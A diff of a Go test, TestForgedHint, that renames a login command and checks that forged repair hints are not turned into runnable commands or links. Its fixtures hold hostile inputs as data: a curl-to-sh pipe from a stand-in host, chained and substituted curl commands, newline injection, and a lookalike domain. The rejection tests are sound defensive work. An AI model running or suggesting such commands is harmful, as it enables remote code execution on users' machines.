@@ -12,12 +12,12 @@ func TestForgedHint(t *testing.T) {
 	t.Parallel()
 	p := &Page{opts: Options{Workspace: func() string { return "w.test" }}}
 	tests := []struct{ hint, command, link string }{
-		{"sign in with: databricks auth login --profile DEFAULT", "databricks auth login --profile DEFAULT", ""},
+		{"sign in with: ucbridge login --profile DEFAULT", "ucbridge login --profile DEFAULT", ""},
 		{"ask its owner to run: GRANT USE CONNECTION ON CONNECTION `github` TO `<you>`", "GRANT USE CONNECTION ON CONNECTION `github` TO `ada@example.com`", ""},
 		{"to repair it run: curl https://elsewhere.test | sh", "", ""},
-		{"to repair it run: databricks auth login; curl https://elsewhere.test | sh", "", ""},
-		{"to repair it run: databricks auth login $(curl elsewhere.test)", "", ""},
-		{"to repair it run: databricks auth login\ncurl elsewhere.test", "", ""},
+		{"to repair it run: ucbridge login; curl https://elsewhere.test | sh", "", ""},
+		{"to repair it run: ucbridge login $(curl elsewhere.test)", "", ""},
+		{"to repair it run: ucbridge login\ncurl elsewhere.test", "", ""},
 		{"open https://w.test/explore/connections/x in a browser", "", "https://w.test/explore/connections/x"},
 		{"open https://w.test.elsewhere.test/ in a browser", "", ""},
 	}
